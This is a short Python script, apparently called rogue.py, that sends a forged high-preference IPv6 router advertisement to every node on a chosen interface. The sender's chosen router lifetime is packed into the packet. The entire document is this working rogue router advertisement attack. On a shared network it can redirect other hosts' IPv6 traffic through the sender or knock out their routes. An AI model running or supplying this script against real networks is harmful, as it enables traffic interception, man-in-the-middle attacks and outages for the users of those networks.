"""Sends one router advertisement of its own, of high preference (RFC 4191): rogue.py INTERFACE ROUTER-LIFETIME-SEC"""

import socket
import struct
import sys

interface, lifetime = sys.argv[1], int(sys.argv[2])
with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as talk:
    talk.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    message = struct.pack(">BBHBBHII", 134, 0, 0, 64, 0x08, lifetime, 0, 0)
    talk.sendto(message, ("ff02::1", 0, 0, socket.if_nametoindex(interface)))
